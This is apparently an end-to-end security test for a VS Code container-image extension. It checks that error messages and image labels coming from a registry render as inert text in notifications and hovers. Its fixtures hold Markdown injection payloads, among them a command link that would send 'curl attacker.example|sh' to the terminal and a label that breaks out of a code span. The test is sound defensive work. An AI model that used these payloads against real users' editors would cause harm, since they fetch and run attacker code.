// What a registry writes stays text in VS Code: an error message that spells a Markdown link to a
// command (notifications open such links with commands allowed), and an image label that breaks
// out of its code span in the hover (where links to stowage.pullImage are allowed, and images
// load from the web). The packaged extension in code-server; a real registry, a proxy in front.
import assert from 'node:assert/strict';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { parsePlatform } from '../../src/core/platform';
import { pull } from '../../src/core/pull/pull';
import { Workbench } from '../support/browser';
import { buildVsix, type CodeServer, startCodeServer } from '../support/code-server';
import { clientFor, Store } from '../support/engine';
import { buildImage } from '../support/fixtures';
import { type Proxy as RecordingProxy, type RuleResult, startProxy } from '../support/proxy';
import { pushLayout } from '../support/push';
import { type RunningRegistry, startRegistry } from '../support/registry';

const PULL_LINK = 'command:stowage.pullImage?%5B%7B%22reference%22%3A%22127.0.0.1%3A1%2Fx%22%7D%5D';
const TERMINAL_LINK =
  'command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20attacker.example%7Csh%5Cn%22%7D';

describe('Registry text in notifications and hovers', () => {
  let registry: RunningRegistry;
  let proxy: RecordingProxy;
  let server: CodeServer;
  let wb: Workbench;
  let tmp: string;

  before(async () => {
    tmp = await mkdtemp(join(tmpdir(), 'stowage-security-e2e-'));
    registry = await startRegistry();
    const vsix = buildVsix();
    const labelled = await buildImage(join(tmp, 'labelled'), {
      platforms: ['linux/amd64'],
      layers: 1,
      layerSize: 20_000,
      seed: 'e2e-security-labels',
      labels: { [`k\`\` [Pull](${PULL_LINK}) ![p](https://127.0.0.1:1/p.png) \`\``]: 'v' },
    });
    await pushLayout(labelled.layoutDir, 'latest', registry, 'rev/labels:1.0');
    const app = await buildImage(join(tmp, 'app'), {
      platforms: ['linux/amd64'],
      layers: 1,
      layerSize: 20_000,
      seed: 'e2e-security-app',
    });
    await pushLayout(app.layoutDir, 'latest', registry, 'rev/app:1.0');
    // rev/app's manifest GET is refused with a message that spells links.
    proxy = await startProxy(
      registry.url,
      (req): RuleResult =>
        req.method === 'GET' && /\/rev\/app\/manifests\//.test(req.url ?? '')
          ? {
              respond: {
                status: 403,
                headers: { 'content-type': 'application/json' },
                body: JSON.stringify({
                  errors: [{ code: 'DENIED', message: `[Request access](${TERMINAL_LINK}) first` }],
                }),
              },
            }
          : undefined,
    );
    const cacheDir = join(tmp, 'cache');
    const { client } = clientFor(registry);
    try {
      await pull(await Store.open(cacheDir), client, `${registry.host}/rev/labels:1.0`, {
        platforms: [parsePlatform('linux/amd64')],
      });
    } finally {
      await client.close();
    }
    const workspace = join(tmp, 'workspace');
    await mkdir(join(workspace, '.vscode'), { recursive: true });
    await writeFile(
      join(workspace, 'Dockerfile'),
      `FROM ${registry.host}/rev/labels:1.0\nFROM ${proxy.host}/rev/app:1.0\n`,
    );
    const settings = {
      'stowage.cacheDirectory': cacheDir,
      'stowage.platforms': ['linux/amd64'],
      'stowage.checkForNewerImages': 'off',
      'stowage.codeLens': false,
    };
    await writeFile(join(workspace, '.vscode', 'settings.json'), JSON.stringify(settings, null, 2));
    server = await startCodeServer({ vsix: await vsix, settings, machineSettings: settings });
    wb = await Workbench.open(server, server.workbenchUrl(workspace), { name: 'security-review' });
    await server.waitForActivation();
    await wb.step('open Dockerfile', () => wb.openFile('Dockerfile'));
  });

  after(async () => {
    await wb?.close();
    await server?.stop();
    await proxy?.stop();
    await registry?.stop();
    if (tmp) await rm(tmp, { recursive: true, force: true });
  });

  test("a pull error's message is text: the registry's [link](command:…) is not a link", async () => {
    await wb.step('Pull Image', () => wb.editorContextMenu('rev/app:1.0', 'Pull Image'));
    const item = await wb.step('the failure', () => wb.notification('Could not pull', 30_000));
    const message = item.locator('.notification-list-item-message');
    // biome-ignore lint/performance/useDomNodeTextContent: the rendered text is what the user reads
    assert.match(await message.innerText(), /Request access/);
    assert.deepEqual(await message.locator('a').evaluateAll((as) => as.map((a) => a.outerHTML)), []);
  });

  test("a cached image's hover shows its labels as text: no link, no image", async () => {
    const hover = wb.page.locator('.monaco-hover:not(.hidden) .monaco-hover-content').first();
    await wb.step('hover the cached FROM', async () => {
      const deadline = Date.now() + 30_000;
      while (!/Labels:/.test(await wb.hoverText('rev/labels')) && Date.now() < deadline) {
        await wb.page.mouse.move(0, 0);
        await wb.page.waitForTimeout(500);
      }
    });
    // biome-ignore lint/performance/useDomNodeTextContent: the rendered text is what the user reads
    assert.match(await hover.innerText(), /Labels:.*Pull/s);
    const active = await hover
      .locator('a, img')
      .evaluateAll((els) => els.map((e) => e.outerHTML).filter((html) => /pullImage|p\.png/.test(html)));
    assert.deepEqual(active, []);
  });
});
